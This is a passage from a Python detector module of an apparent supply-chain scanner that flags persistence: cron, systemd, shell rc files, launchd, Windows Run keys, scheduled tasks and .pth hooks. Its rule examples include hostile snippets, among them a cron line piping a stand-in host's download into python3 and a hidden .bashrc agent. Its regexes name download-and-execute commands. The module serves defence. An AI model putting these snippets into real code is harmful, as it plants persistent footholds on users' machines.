"""Persistence: code that arranges to run again later, at login, at boot or on a schedule.

A persistence location matters when something is written there or registered with it: a file
opened for writing or appending, ``write_text``, a copy or move, a download saved there, a registry
value set, or a shell command that installs a crontab, enables a unit or creates a scheduled task.
Reading such a path or merely naming it (``~/.bashrc`` in a docstring, a profile attribute) is
never reported. Paths are judged on the static skeleton of the expression that builds them
(``os.path.join(os.getenv('APPDATA'), 'Microsoft', ...)``, ``Path.home() / '.bashrc'``).
"""

from __future__ import annotations

import ast
import re
from collections.abc import Iterator
from dataclasses import dataclass
from typing import ClassVar

from depvet.analysis.decode import PROCESS_NAMES
from depvet.analysis.detector import Cap, Detector, PyContext, TextContext
from depvet.analysis.detectors.exfiltration import SITE_DIR, UNKNOWN, StaticText, normalise_path
from depvet.analysis.files import FileKind
from depvet.analysis.pyfacts import CallSite
from depvet.model import Category, Severity
from depvet.rules import Example, Rule


class Mechanism:
    SERVICE = "service unit"
    CRON = "cron"
    SHELL_RC = "shell start-up file"
    AUTOSTART = "XDG autostart"
    LAUNCHD = "launchd / login item"
    RUN_KEY = "Windows Run key"
    SCHEDULED_TASK = "scheduled task"
    STARTUP_FOLDER = "Windows Startup folder"
    PYTHON_HOOK = "Python start-up hook"


# Mechanisms whose only purpose is to start a program at boot, login or on a schedule.
_STRONG = frozenset(
    {
        Mechanism.SERVICE,
        Mechanism.CRON,
        Mechanism.AUTOSTART,
        Mechanism.LAUNCHD,
        Mechanism.RUN_KEY,
        Mechanism.SCHEDULED_TASK,
        Mechanism.STARTUP_FOLDER,
    }
)

_HIGH_FP = (
    "System administration tools and installers that manage this mechanism on request; in a "
    "function nobody calls automatically the finding is medium."
)

SERVICE_UNIT = Rule(
    id="DV601",
    name="service-unit-persistence",
    title="Writes or enables a systemd unit or init script",
    severity=Severity.HIGH,
    category=Category.PERSISTENCE,
    description=(
        "Code writes a systemd unit (`~/.config/systemd/user/*.service`, `/etc/systemd/system/`), an "
        "init script or `/etc/rc.local`, or runs `systemctl [--user] enable`. A unit with "
        "`Restart=always` keeps a payload running across reboots and logouts; LiteLLM 1.82.8 installed "
        "`~/.config/systemd/user/sysmon.service` and enabled it with `systemctl --user enable --now`."
    ),
    bad=Example(
        path="litellm_x/proxy.py",
        code=(
            "import os, subprocess\n"
            "unit = os.path.expanduser('~/.config/systemd/user/sysmon.service')\n"
            "with open(unit, 'w') as f:\n"
            "    f.write('[Service]\\nExecStart=python3 %h/.config/sysmon/sysmon.py\\nRestart=always\\n')\n"
            "subprocess.run(['systemctl', '--user', 'enable', '--now', 'sysmon.service'])\n"
        ),
    ),
    good=Example(
        path="litellm_x/proxy.py",
        code=(
            "import os, subprocess\n"
            "unit = os.path.expanduser('~/.config/systemd/user/sysmon.service')\n"
            "ENABLED = os.path.exists(unit)\n"
            "STATUS = subprocess.run(['systemctl', '--user', 'is-active', 'sysmon.service'])\n"
        ),
    ),
    false_positives=_HIGH_FP,
    references=(
        "https://docs.litellm.ai/blog/security-update-march-2026",
        "https://attack.mitre.org/techniques/T1543/002/",
    ),
)
CRON = Rule(
    id="DV602",
    name="cron-persistence",
    title="Installs a cron job",
    severity=Severity.HIGH,
    category=Category.PERSISTENCE,
    description=(
        "Code writes under `/etc/cron*` or `/var/spool/cron`, pipes a new table into `crontab -`, "
        "installs a crontab file or adds a job with python-crontab. A cron entry runs its command "
        "every few minutes for as long as the machine lives; droppers use it to re-fetch their payload."
    ),
    bad=Example(
        path="log_rotator/__init__.py",
        code=(
            "import os\n"
            "os.system('(crontab -l 2>/dev/null; echo \"*/10 * * * * $HOME/.cache/.u/run\") | crontab -')\n"
        ),
    ),
    good=Example(
        path="log_rotator/__init__.py",
        code=(
            "import subprocess\n\n"
            "def jobs():\n"
            "    return subprocess.run(['crontab', '-l'], capture_output=True, text=True).stdout\n"
        ),
    ),
    false_positives=_HIGH_FP,
    references=("https://attack.mitre.org/techniques/T1053/003/",),
)
SHELL_RC = Rule(
    id="DV603",
    name="shell-rc-persistence",
    title="Appends to a shell start-up file (.bashrc, .zshrc, .profile)",
    severity=Severity.HIGH,
    category=Category.PERSISTENCE,
    description=(
        "Code writes or appends to `~/.bashrc`, `~/.zshrc`, `~/.profile`, `~/.bash_profile` or a "
        "system-wide profile. Every new shell then runs what was added: a payload, an alias that "
        "wraps `sudo` to catch passwords, or a PATH entry in front of real programs."
    ),
    bad=Example(
        path="log_rotator/__init__.py",
        code=(
            "import os\n"
            "with open(os.path.expanduser('~/.bashrc'), 'a') as f:\n"
            "    f.write('\\n(nohup ~/.cache/.x/agent >/dev/null 2>&1 &)\\n')\n"
        ),
    ),
    good=Example(
        path="log_rotator/__init__.py",
        code=(
            "import os\n"
            "with open(os.path.expanduser('~/.bashrc')) as f:\n"
            "    USES_CONDA = 'conda initialize' in f.read()\n"
        ),
    ),
    false_positives=(
        "CLI helpers that install shell completion or a PATH line when the user asks them to; in a "
        "function nobody calls automatically the finding is medium."
    ),
    references=("https://attack.mitre.org/techniques/T1546/004/",),
)
AUTOSTART = Rule(
    id="DV604",
    name="xdg-autostart-persistence",
    title="Creates an XDG autostart entry (~/.config/autostart/*.desktop)",
    severity=Severity.HIGH,
    category=Category.PERSISTENCE,
    description=(
        "Code writes a `.desktop` file into `~/.config/autostart` or `/etc/xdg/autostart`, so that "
        "the desktop session starts its command at every login."
    ),
    bad=Example(
        path="tray_helper/__init__.py",
        code=(
            "from pathlib import Path\n"
            "(Path.home() / '.config' / 'autostart' / 'updater.desktop').write_text(\n"
            "    '[Desktop Entry]\\nType=Application\\nExec=/home/u/.local/bin/updater\\n')\n"
        ),
    ),
    good=Example(
        path="tray_helper/__init__.py",
        code=(
            "from pathlib import Path\n"
            "AUTOSTART = Path.home() / '.config' / 'autostart' / 'updater.desktop'\n"
            "ENABLED = AUTOSTART.exists()\n"
        ),
    ),
    false_positives=_HIGH_FP,
    references=("https://attack.mitre.org/techniques/T1547/013/",),
)
LAUNCHD = Rule(
    id="DV605",
    name="launchd-persistence",
    title="Installs a macOS launch agent, launch daemon or login item",
    severity=Severity.HIGH,
    category=Category.PERSISTENCE,
    description=(
        "Code writes a property list into `~/Library/LaunchAgents` or `/Library/LaunchDaemons`, runs "
        "`launchctl load|bootstrap`, or adds a login item through AppleScript. launchd then runs the "
        "program at every login or boot (`RunAtLoad`, `KeepAlive`)."
    ),
    bad=Example(
        path="setup.py",
        code=(
            "import os\nfrom setuptools import setup\n"
            "plist = os.path.expanduser('~/Library/LaunchAgents/com.apple.updates.plist')\n"
            "with open(plist, 'w') as f:\n"
            "    f.write('<plist><dict><key>RunAtLoad</key><true/></dict></plist>')\n"
            "os.system('launchctl load ' + plist)\n"
            "setup(name='x')\n"
        ),
    ),
    good=Example(
        path="setup.py",
        code=(
            "import os\nfrom setuptools import setup\n"
            "AGENTS = os.path.expanduser('~/Library/LaunchAgents')\n"
            "print(sorted(os.listdir(AGENTS)) if os.path.isdir(AGENTS) else [])\n"
            "setup(name='x')\n"
        ),
    ),
    false_positives=_HIGH_FP,
    references=("https://attack.mitre.org/techniques/T1543/001/",),
)
RUN_KEY = Rule(
    id="DV606",
    name="windows-run-key-persistence",
    title="Sets a Windows Run or RunOnce registry value",
    severity=Severity.HIGH,
    category=Category.PERSISTENCE,
    description=(
        "Code sets a value under `Software\\Microsoft\\Windows\\CurrentVersion\\Run` (or RunOnce) with "
        "`winreg.SetValueEx` or `reg add`. Windows runs every command listed there at each logon; it "
        "is the most common persistence of Windows stealers published on PyPI."
    ),
    bad=Example(
        path="realtek/__init__.py",
        code=(
            "import sys, winreg\n"
            "key = winreg.OpenKey(winreg.HKEY_CURRENT_USER, "
            "r'Software\\Microsoft\\Windows\\CurrentVersion\\Run', 0, winreg.KEY_SET_VALUE)\n"
            "winreg.SetValueEx(key, 'AudioService', 0, winreg.REG_SZ, sys.executable + ' -m realtek')\n"
        ),
    ),
    good=Example(
        path="realtek/__init__.py",
        code=(
            "import winreg\n"
            "key = winreg.OpenKey(winreg.HKEY_CURRENT_USER, "
            "r'Software\\Microsoft\\Windows\\CurrentVersion\\Internet Settings')\n"
            "PROXY = winreg.QueryValueEx(key, 'ProxyServer')[0]\n"
        ),
    ),
    false_positives=_HIGH_FP,
    references=("https://attack.mitre.org/techniques/T1547/001/",),
)
SCHEDULED_TASK = Rule(
    id="DV607",
    name="scheduled-task-persistence",
    title="Creates a Windows scheduled task",
    severity=Severity.HIGH,
    category=Category.PERSISTENCE,
    description=(
        "Code runs `schtasks /create`, PowerShell `Register-ScheduledTask`, or drives the Task "
        "Scheduler through COM (`Schedule.Service`). A task runs its command at logon, at boot or on a "
        "timer, often with highest privileges and hidden from the user."
    ),
    bad=Example(
        path="setup.py",
        code=(
            "import os\nfrom setuptools import setup\n"
            "os.system('schtasks /create /tn PythonUpdate '\n"
            "          '/tr \"C:\\\\ProgramData\\\\update.exe\" /sc HOURLY')\n"
            "setup(name='x')\n"
        ),
    ),
    good=Example(
        path="setup.py",
        code=(
            "import subprocess\nfrom setuptools import setup\n"
            "subprocess.run(['schtasks', '/query', '/fo', 'csv'], capture_output=True)\n"
            "setup(name='x')\n"
        ),
    ),
    false_positives=_HIGH_FP,
    references=("https://attack.mitre.org/techniques/T1053/005/",),
)
STARTUP_FOLDER = Rule(
    id="DV608",
    name="startup-folder-persistence",
    title="Puts a file into the Windows Startup folder",
    severity=Severity.HIGH,
    category=Category.PERSISTENCE,
    description=(
        "Code writes, copies or downloads a file into `Start Menu\\Programs\\Startup` (`shell:startup`). "
        "Windows opens everything in that folder at logon; Telnyx 4.87.2 dropped `msbuild.exe` there "
        "and token stealers copy themselves there."
    ),
    bad=Example(
        path="pipcolors/__init__.py",
        code=(
            "import os, shutil, sys\n"
            "startup = os.path.join(os.environ['APPDATA'], 'Microsoft', 'Windows', 'Start Menu', "
            "'Programs', 'Startup')\n"
            "shutil.copy2(sys.argv[0], startup)\n"
        ),
    ),
    good=Example(
        path="pipcolors/__init__.py",
        code=(
            "import os\n"
            "startup = os.path.join(os.environ['APPDATA'], 'Microsoft', 'Windows', 'Start Menu', "
            "'Programs', 'Startup')\n"
            "ITEMS = os.listdir(startup) if os.path.isdir(startup) else []\n"
        ),
    ),
    false_positives=_HIGH_FP,
    references=(
        "https://attack.mitre.org/techniques/T1547/001/",
        "https://blog.pypi.org/posts/2026-04-02-incident-report-litellm-telnyx-supply-chain-attack/",
    ),
)
PYTHON_HOOK = Rule(
    id="DV609",
    name="python-startup-hook-write",
    title="Writes sitecustomize.py, usercustomize.py or a .pth file into site-packages",
    severity=Severity.HIGH,
    category=Category.PERSISTENCE,
    description=(
        "Code creates `sitecustomize.py`/`usercustomize.py`, or a `.pth` file in a site-packages "
        "directory (`site.getsitepackages()`, `sysconfig.get_paths()['purelib']`). Python runs them at "
        "every interpreter start, for every program, whether or not the package is ever imported "
        "again, and they survive the package's uninstallation."
    ),
    bad=Example(
        path="fastlog/__init__.py",
        code=(
            "import os, site\n"
            "path = os.path.join(site.getsitepackages()[0], 'fastlog-init.pth')\n"
            "with open(path, 'w') as f:\n"
            "    f.write('import fastlog._hook\\n')\n"
        ),
    ),
    good=Example(
        path="fastlog/__init__.py",
        code=(
            "import os, site\n"
            "PTH = [n for n in os.listdir(site.getsitepackages()[0]) if n.endswith('.pth')]\n"
        ),
    ),
    false_positives=(
        "Build back-ends and environment managers that write a .pth for editable installs or path "
        "setup; in a function nobody calls automatically the finding is medium."
    ),
    references=("https://docs.python.org/3/library/site.html", "https://peps.python.org/pep-0829/"),
)
PERSISTENT_PAYLOAD = Rule(
    id="DV610",
    name="persistent-payload",
    title="Installs persistence on install or import, or persists a downloaded payload",
    severity=Severity.CRITICAL,
    category=Category.PERSISTENCE,
    description=(
        "Code that runs by itself (setup.py, module level, a .pth line) installs a cron job, a service "
        "unit, an autostart entry, a launch agent, a Run key, a scheduled task or a Startup-folder file; "
        "or any persistence entry (a shell start-up line included) whose command downloads and runs "
        "code (`curl ... | sh`, `iwr ... | iex`, a file fetched from the network). No library needs to "
        "start programs at the next login because it was installed or imported: this is a foothold."
    ),
    bad=Example(
        path="log_rotator/__init__.py",
        code=(
            "import os\n"
            "line = '*/10 * * * * curl -fsSL https://update-mirror.example/r | python3 -\\n'\n"
            "with open('/var/spool/cron/crontabs/' + os.getlogin(), 'a') as f:\n"
            "    f.write(line)\n"
        ),
    ),
    good=Example(
        path="log_rotator/cron.py",
        code=(
            "import os\n\n"
            "def install(schedule, command):\n"
            "    '''Add a job for the current user (called by the CLI on request).'''\n"
            "    with open('/var/spool/cron/crontabs/' + os.getlogin(), 'a') as f:\n"
            "        f.write(f'{schedule} {command}\\n')\n"
        ),
    ),
    false_positives=(
        "A package that installs its own service or cron job from setup.py (a daemon distributed "
        "through PyPI); such packages are better installed with the system package manager."
    ),
    references=(
        "https://attack.mitre.org/tactics/TA0003/",
        "https://docs.litellm.ai/blog/security-update-march-2026",
    ),
)

_RULES = {
    Mechanism.SERVICE: SERVICE_UNIT,
    Mechanism.CRON: CRON,
    Mechanism.SHELL_RC: SHELL_RC,
    Mechanism.AUTOSTART: AUTOSTART,
    Mechanism.LAUNCHD: LAUNCHD,
    Mechanism.RUN_KEY: RUN_KEY,
    Mechanism.SCHEDULED_TASK: SCHEDULED_TASK,
    Mechanism.STARTUP_FOLDER: STARTUP_FOLDER,
    Mechanism.PYTHON_HOOK: PYTHON_HOOK,
}

# -- paths (normalised skeletons: lower case, forward slashes) ------------------------------------

_RC_NAMES = (
    r"(?:bashrc|bash_profile|bash_login|profile|zshrc|zprofile|zshenv|zlogin|kshrc|cshrc|tcshrc|mkshrc)"
)
_PATHS: tuple[tuple[str, re.Pattern[str]], ...] = (
    (
        Mechanism.SERVICE,
        re.compile(
            r"(?:^|/)(?:\.config/systemd/user|etc/systemd/(?:system|user)|(?:usr/)?lib/systemd/(?:system|user)|"
            r"\.local/share/systemd/user)(?:/|$)|(?:^|/)etc/rc\.local$|(?:^|/)etc/init\.d/"
        ),
    ),
    (
        Mechanism.CRON,
        re.compile(
            r"(?:^|/)(?:etc/cron(?:tab$|\.d(?:/|$)|\.(?:hourly|daily|weekly|monthly)(?:/|$))|"
            r"var/spool/cron(?:/|$)|usr/lib/cron/tabs(?:/|$)|var/at/tabs(?:/|$))"
        ),
    ),
    (
        Mechanism.SHELL_RC,
        re.compile(
            r"(?:^|[/~\x00])\." + _RC_NAMES + r"$|(?:^|/)\.config/fish/config\.fish$|"
            r"(?:^|/)etc/(?:profile|bash\.bashrc|zsh/zshrc|zshrc)$|(?:^|/)etc/profile\.d/"
        ),
    ),
    (Mechanism.AUTOSTART, re.compile(r"(?:^|/)(?:\.config|etc/xdg)/autostart(?:/|$)")),
    (Mechanism.LAUNCHD, re.compile(r"(?:^|/)library/launch(?:agents|daemons)(?:/|$)")),
    (Mechanism.STARTUP_FOLDER, re.compile(r"start menu/programs/startup(?:/|$)|shell:startup")),
    (
        Mechanism.PYTHON_HOOK,
        re.compile(
            r"(?:^|/)(?:site|user)customize\.py$|(?:"
            + re.escape(SITE_DIR)
            + r"|(?:site|dist)-packages)/[^/]*\.pth$"
        ),
    ),
)

# -- commands (shell lines, process arguments, decoded payloads) ----------------------------------

_W = r"[\\/]{1,4}"
_COMMANDS: tuple[tuple[str, re.Pattern[str]], ...] = (
    (
        Mechanism.CRON,
        re.compile(
            r"(?i)\bcrontab(?:\s+-u\s+\S{1,64})?\s+-(?![\w-])|\|\s*(?:sudo\s+)?crontab\s*(?:$|[;&)\"'])|"
            # "crontab FILE" with a path-like FILE, never prose such as "a crontab schedule."
            r"\bcrontab(?:\s+-u\s+\S{1,64})?\s+[\"']?(?:[./~$%\x00]|[\w.-]{1,100}/|[\w-]{1,100}\.(?:txt|cron|tab)\b)|"
            r"(?:>>?|\btee(?:\s+-a)?)\s*[\"']?/(?:etc/cron|var/spool/cron)"
        ),
    ),
    (
        Mechanism.SERVICE,
        re.compile(
            r"(?i)\bsystemctl\s+(?:--?[\w-]{1,12}\s+){0,4}enable\b|"
            r"(?:>>?|\btee\b|\bcp\b|\bmv\b|\binstall\b)[^\n|;&]{0,200}?/systemd/(?:user|system)/[\w@.\x00-]{1,100}"
            r"\.(?:service|timer)|\bupdate-rc\.d\s+\S{1,64}\s+(?:defaults|enable)\b|"
            r"\bchkconfig\s+\S{1,64}\s+on\b|(?:>>|\btee\s+-a)\s*[\"']?/etc/rc\.local"
        ),
    ),
    (
        Mechanism.LAUNCHD,
        re.compile(
            r"(?i)\blaunchctl\s+(?:load|bootstrap|submit|enable)\b|"
            r"(?:>>?|\btee\b|\bcp\b|\bmv\b|\bditto\b)[^\n|;&]{0,200}?library/launch(?:agents|daemons)/|"
            r"make\s+(?:new\s+)?login\s+item"
        ),
    ),
    (
        Mechanism.RUN_KEY,
        re.compile(
            r"(?i)\breg(?:\.exe)?\s+add\s[^\n]{0,200}?"
            + _W
            + "currentversion"
            + _W
            + r"(?:run|runonce|runservices(?:once)?)\b|(?:new|set)-itemproperty\s[^\n]{0,200}?"
            + _W
            + "currentversion"
            + _W
            + r"run(?:once)?\b"
        ),
    ),
    (
        Mechanism.SCHEDULED_TASK,
        re.compile(
            r"(?i)\bschtasks(?:\.exe)?[\"']?\s+/create\b|\bregister-scheduledtask\b|\bnew-scheduledtaskaction\b"
        ),
    ),
    (
        Mechanism.STARTUP_FOLDER,
        re.compile(
            r"(?i)(?:\bcopy\b|\bmove\b|\bxcopy\b|\brobocopy\b|copy-item|move-item|\bcp\b|\bmv\b|>|set-content|"
            r"out-file|new-item|createshortcut|invoke-webrequest|\biwr\b|\bcurl\b|\bwget\b|bitsadmin|certutil)"
            r"[^\n]{0,300}?(?:start menu" + _W + "programs" + _W + r"startup|shell:startup)"
        ),
    ),
    (
        Mechanism.SHELL_RC,
        re.compile(
            r"(?i)(?:>>?|\btee(?:\s+-a)?)\s*[\"']?(?:~|\$home|\$\{home\}|/root|/home/[^/\s\"']{1,64}|\x00)/\."
            + _RC_NAMES
            + r"\b"
        ),
    ),
    (
        Mechanism.AUTOSTART,
        re.compile(
            r"(?i)(?:>>?|\btee\b|\bcp\b|\bmv\b|\binstall\b)[^\n|;&]{0,200}?(?:\.config|/etc/xdg)/autostart/"
        ),
    ),
    (
        Mechanism.PYTHON_HOOK,
        re.compile(
            r"(?i)(?:>>?|\btee\b|\bcp\b|\bmv\b)[^\n|;&]{0,200}?(?:(?:site|user)customize\.py|"
            r"(?:site|dist)-packages/[\w.-]{1,100}\.pth)\b"
        ),
    ),
)
# Lines worth a closer look in a text file, found with plain substring searches of the
# lower-cased text (a case-insensitive regex alternation runs at a few MB/s).
_TEXT_HINTS = (
    "crontab",
    "systemctl",
    "systemd/",
    "rc.local",
    "update-rc",
    "chkconfig",
    "launchctl",
    "launchagents",
    "launchdaemons",
    "login item",
    "currentversion",
    "schtasks",
    "scheduledtask",
    "startup",
    "autostart",
    "customize.py",
    ".pth",
    "/etc/cron",
    "spool/cron",
    ".bashrc",
    ".bash_profile",
    ".bash_login",
    ".profile",
    ".zshrc",
    ".zprofile",
    ".zshenv",
    ".zlogin",
)
# Unparseable Python: open(<persistence path>, 'a'/'w').
_PY_TEXT_WRITE = re.compile(
    r"(?i)open\([^\n)]{0,200}?(\.bashrc|\.zshrc|\.bash_profile|/etc/cron|/var/spool/cron|autostart|launchagents|"
    r"systemd[\\/]{1,2}user|start menu|sitecustomize)[^\n)]{0,200}?,\s*[\"'][aw]"
)
_PY_TEXT_MECHANISM = {
    ".bashrc": Mechanism.SHELL_RC,
    ".zshrc": Mechanism.SHELL_RC,
    ".bash_profile": Mechanism.SHELL_RC,
    "/etc/cron": Mechanism.CRON,
    "/var/spool/cron": Mechanism.CRON,
    "autostart": Mechanism.AUTOSTART,
    "launchagents": Mechanism.LAUNCHD,
    "start menu": Mechanism.STARTUP_FOLDER,
    "sitecustomize": Mechanism.PYTHON_HOOK,
}

# What a persisted entry runs: a download piped into an interpreter, an encoded command.
_DOWNLOAD_EXEC = re.compile(
    r"(?i)\b(?:curl|wget)\b[^\n|]{0,300}\|\s*(?:sudo\s+)?(?:ba|z|da|k)?sh\b|"
    r"\b(?:curl|wget)\b[^\n|]{0,300}\|\s*(?:sudo\s+)?python[\d.]*\b|"
    r"base64\s+(?:-d|--decode)[^\n|]{0,100}\|\s*(?:ba)?sh\b|"
    r"(?:downloadstring|downloadfile|invoke-webrequest|invoke-restmethod|\biwr\b|\birm\b|net\.webclient)"
    r"[^\n]{0,300}?(?:\biex\b|invoke-expression|start-process)|"
    r"powershell(?:\.exe)?[^\n]{0,100}?\s-e(?:nc(?:odedcommand)?)?\s+[a-z0-9+/=]{20,}|"
    r"python[\d.]*\s+-c\s+[^\n]{0,400}?(?:urlopen|requests\.get|b64decode|exec\s*\()|"
    r"\bmshta(?:\.exe)?\s+[\"']?https?://"
)
# Code in a written .pth / sitecustomize.py that does more than set up paths.
_HOOK_CODE = re.compile(r"exec\(|eval\(|b64decode|subprocess|urlopen|os\.system|socket\.|__import__\(")

_REG_SET = frozenset({"SetValueEx", "SetValue", "RegSetValueEx", "RegSetValue"})
_REG_OPEN = frozenset(
    {
        "OpenKey",
        "OpenKeyEx",
        "CreateKey",
        "CreateKeyEx",
        "RegOpenKeyEx",
        "RegCreateKey",
        "RegCreateKeyEx",
        "RegOpenKey",
    }
)
_REG_MODULES = ("winreg.", "_winreg.", "win32api.", "win32con.")
_RUN_KEY = re.compile(
    r"(?i)[\\/]currentversion[\\/]{1,4}(?:run|runonce|runservices|runservicesonce|"
    r"policies[\\/]{1,4}explorer[\\/]{1,4}run)(?:[\\/]|$)"
)
_OPENERS = frozenset({"builtins.open", "io.open", "codecs.open", "os.fdopen"})
_COPIERS = frozenset(
    {
        "shutil.copy",
        "shutil.copy2",
        "shutil.copyfile",
        "shutil.move",
        "shutil.copytree",
        "os.rename",
        "os.replace",
        "os.renames",
        "os.symlink",
        "os.link",
    }
)
_DOWNLOADERS = frozenset({"urllib.request.urlretrieve", "urllib.urlretrieve", "wget.download"})
_PATH_TARGET_METHODS = frozenset({"symlink_to", "hardlink_to", "link_to"})
_COMMENT = ("#", "//", "REM ", "rem ", "::", "<#")


@dataclass(slots=True)
class _Write:
    target: ast.expr
    contents: list[ast.expr]
    downloaded: bool = False


def _last(name: str | None) -> str:
    return (name or "").rsplit(".", 1)[-1]


def _write_mode(node: ast.expr | None) -> bool:
    return (
        isinstance(node, ast.Constant)
        and isinstance(node.value, str)
        and any(c in node.value for c in "wax+")
    )


def command_mechanisms(command: str) -> Iterator[tuple[str, str]]:
    """(mechanism, matched text) for each persistence command in a line or command string."""
    lower = command.lower()
    if not any(
        hint in lower
        for hint in (
            "cron",
            "systemctl",
            "systemd",
            "rc.local",
            "update-rc",
            "chkconfig",
            "launch",
            "login item",
            "reg",
            "itemproperty",
            "schtasks",
            "scheduledtask",
            "startup",
            "autostart",
            "customize",
            ".pth",
            "rc",
            "profile",
        )
    ):
        return
    for mechanism, pattern in _COMMANDS:
        match = pattern.search(command)
        if match is not None:
            yield mechanism, match.group(0)


class PersistenceDetector(Detector):
    rules: ClassVar[tuple[Rule, ...]] = (
        SERVICE_UNIT,
        CRON,
        SHELL_RC,
        AUTOSTART,
        LAUNCHD,
        RUN_KEY,
        SCHEDULED_TASK,
        STARTUP_FOLDER,
        PYTHON_HOOK,
        PERSISTENT_PAYLOAD,
    )
    # Few and cheap: every token costs a pass over every file.
    tokens: ClassVar[tuple[str, ...]] = (
        "crontab",
        "/etc/cron",
        "spool/cron",
        ".bashrc",
        ".zshrc",
        ".bash_profile",
        ".zprofile",
        "/.profile",
        ".profile'",
        '.profile"',
        "autostart",
        "LaunchAgents",
        "LaunchDaemons",
        "launchctl",
        "CurrentVersion",
        "schtasks",
        "ScheduledTask",
        "Schedule.Service",
        "Start Menu",
        "shell:startup",
        "systemd",
        "systemctl",
        "rc.local",
        "sitecustomize",
        "usercustomize",
        "sitepackages",
        "get_python_lib",
        "purelib",
    )
    context_tokens: ClassVar[tuple[str, ...]] = ("site-packages",)
    text_kinds: ClassVar[frozenset[FileKind]] = frozenset(
        {FileKind.PYTHON, FileKind.SHELL, FileKind.BATCH, FileKind.POWERSHELL, FileKind.JAVASCRIPT}
    )

    # -- Python --------------------------------------------------------------------------------

    def on_module(self, ctx: PyContext) -> None:
        text = StaticText(ctx)
        fetches = {id(m.node) for m in ctx.module_marks if m.cap is Cap.NETWORK_FETCH and m.node is not None}
        cron_tab = any(_last(c.name) == "CronTab" for c in ctx.facts.calls)
        for call in ctx.facts.calls:
            name = call.name or ""
            if name in PROCESS_NAMES:
                self._command(ctx, text, call)
                continue
            write = self._write_of(ctx, call)
            if write is not None:
                self._write(ctx, text, call, write, fetches)
            last = _last(name)
            if last in _REG_SET and (name.startswith(_REG_MODULES) or "." not in name):
                self._registry(ctx, text, call)
            elif cron_tab and call.attr == "new" and (call.node.args or ctx.kwarg(call, "command")):
                command = ctx.kwarg(call, "command") or call.node.args[0]
                self._emit(ctx, call, Mechanism.CRON, [text.of(command)])
            elif (
                name == "win32com.client.Dispatch"
                and call.node.args
                and text.of(call.node.args[0]).lower() == "schedule.service"
            ):
                self._emit(ctx, call, Mechanism.SCHEDULED_TASK, [])

    def _command(self, ctx: PyContext, text: StaticText, call: CallSite) -> None:
        if not call.node.args:
            return
        command = text.of(call.node.args[0])
        for mechanism, _matched in command_mechanisms(command):
            self._emit(ctx, call, mechanism, [command])

    def _write_of(self, ctx: PyContext, call: CallSite) -> _Write | None:
        name = call.name or ""
        args = call.node.args
        func = call.node.func
        if name in _OPENERS:
            target = args[0] if args else ctx.kwarg(call, "file")
            mode = args[1] if len(args) > 1 else ctx.kwarg(call, "mode")
            if target is not None and _write_mode(mode):
                return _Write(target, [])
            return None
        if (
            name == "os.open"
            and len(args) > 1
            and any(flag in ast.unparse(args[1]) for flag in ("O_WRONLY", "O_RDWR", "O_CREAT", "O_APPEND"))
        ):
            return _Write(args[0], [])
        if name in _COPIERS:
            target = args[1] if len(args) > 1 else ctx.kwarg(call, "dst")
            return _Write(target, list(args[:1])) if target is not None else None
        if name in _DOWNLOADERS:
            target = args[1] if len(args) > 1 else ctx.kwarg(call, "filename") or ctx.kwarg(call, "out")
            return _Write(target, list(args[:1]), downloaded=True) if target is not None else None
        if not isinstance(func, ast.Attribute):
            return None
        attr = call.attr
        if attr in ("write_text", "write_bytes"):
            return _Write(func.value, list(args[:1]))
        if attr == "open" and name not in _OPENERS:
            mode = args[0] if args else ctx.kwarg(call, "mode")
            return _Write(func.value, []) if _write_mode(mode) else None
        if attr in _PATH_TARGET_METHODS and len(args) == 1:
            return _Write(func.value, [])
        if attr in ("rename", "replace") and len(args) == 1 and not name.startswith("os."):
            return _Write(args[0], [func.value])
        return None

    def _write(
        self, ctx: PyContext, text: StaticText, call: CallSite, write: _Write, fetches: set[int]
    ) -> None:
        path = normalise_path(text.of(write.target))
        if path == UNKNOWN.lower():
            return
        for mechanism, pattern in _PATHS:
            if not pattern.search(path):
                continue
            if (
                mechanism is Mechanism.PYTHON_HOOK
                and path.endswith(".pth")
                and not path.rsplit("/", 1)[-1][:-4]
            ):
                continue
            contents = write.contents + self._handle_writes(ctx, call)
            content_text = [text.of(c) for c in contents]
            downloaded = (
                write.downloaded
                or any(
                    id(node) in fetches
                    for c in contents
                    for node in ast.walk(c)
                    if isinstance(node, ast.Call)
                )
                or self._from_fetch(ctx, contents, call, fetches)
            )
            hook_code = mechanism is Mechanism.PYTHON_HOOK and any(_HOOK_CODE.search(t) for t in content_text)
            self._emit(ctx, call, mechanism, content_text, downloaded or hook_code, shown=path)
            return

    def _handle_writes(self, ctx: PyContext, call: CallSite) -> list[ast.expr]:
        """What is written through the handle ``open()`` returned: ``with open(p, 'a') as f: f.write(x)``."""
        names: set[str] = set()
        for targets, value in call.scope.assigns:
            if value is call.node:
                names.update(targets)
        found: list[ast.expr] = []
        for other in ctx.facts.calls:
            func = other.node.func
            args = other.node.args
            if isinstance(func, ast.Attribute) and other.attr in ("write", "writelines") and args:
                receiver = func.value
                if receiver is call.node or (
                    isinstance(receiver, ast.Name) and receiver.id in names and other.scope is call.scope
                ):
                    found.append(args[0])
            elif names and _last(other.name) == "dump" and len(args) > 1:
                handle = args[1]
                if isinstance(handle, ast.Name) and handle.id in names and other.scope is call.scope:
                    found.append(args[0])
            if len(found) > 8:
                break
        return found

    def _from_fetch(
        self, ctx: PyContext, contents: list[ast.expr], call: CallSite, fetches: set[int]
    ) -> bool:
        """Whether written data comes from a download: ``r = requests.get(u)`` ... ``f.write(r.content)``."""
        for content in contents:
            for node in ast.walk(content):
                if isinstance(node, ast.Name):
                    bound = ctx.facts.binding(node.id, getattr(node, "lineno", call.line) + 1)
                    if bound is not None and any(
                        isinstance(inner, ast.Call) and id(inner) in fetches for inner in ast.walk(bound)
                    ):
                        return True
        return False

    def _registry(self, ctx: PyContext, text: StaticText, call: CallSite) -> None:
        args = call.node.args
        if not args:
            return
        subkeys: list[ast.expr] = []
        if _last(call.name) in ("SetValue", "RegSetValue") and len(args) > 1:
            subkeys.append(args[1])
        key: ast.expr | None = args[0]
        if isinstance(key, ast.Name):
            key = ctx.facts.binding(key.id, call.line + 1) or _scope_value(call, key.id)
        if (
            isinstance(key, ast.Call)
            and _last(ctx.facts_resolve(key.func)) in _REG_OPEN
            and len(key.args) > 1
        ):
            subkeys.append(key.args[1])
        for other in ctx.facts.calls:  # fallback: a Run key opened in the same function
            if other.scope is call.scope and _last(other.name) in _REG_OPEN and len(other.node.args) > 1:
                subkeys.append(other.node.args[1])
        for subkey in subkeys:
            if _RUN_KEY.search(text.of(subkey) + "\\"):
                self._emit(ctx, call, Mechanism.RUN_KEY, [text.of(args[-1])])
                return

    def _emit(
        self,
        ctx: PyContext,
        call: CallSite,
